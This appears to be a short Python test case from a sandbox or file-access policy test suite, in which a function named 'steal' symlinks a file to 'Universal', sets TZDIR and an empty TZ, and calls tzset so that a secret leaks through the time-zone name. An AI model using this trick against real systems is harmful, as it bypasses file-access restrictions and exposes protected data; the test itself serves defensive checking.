# class: files
# rule: read_write_tmp
# success: a file in /tmp is read as a time zone, by the name that an empty variable stands for
# proof: word
import os
import time

from attack import DIR, SECRET, attempt


@attempt
def steal():
    os.symlink(DIR + "/zone", "Universal")
    os.environ["TZDIR"] = os.getcwd()
    os.environ["TZ"] = ""
    time.tzset()
    return len(time.tzname[0]) > 6 and SECRET.startswith(time.tzname[0])
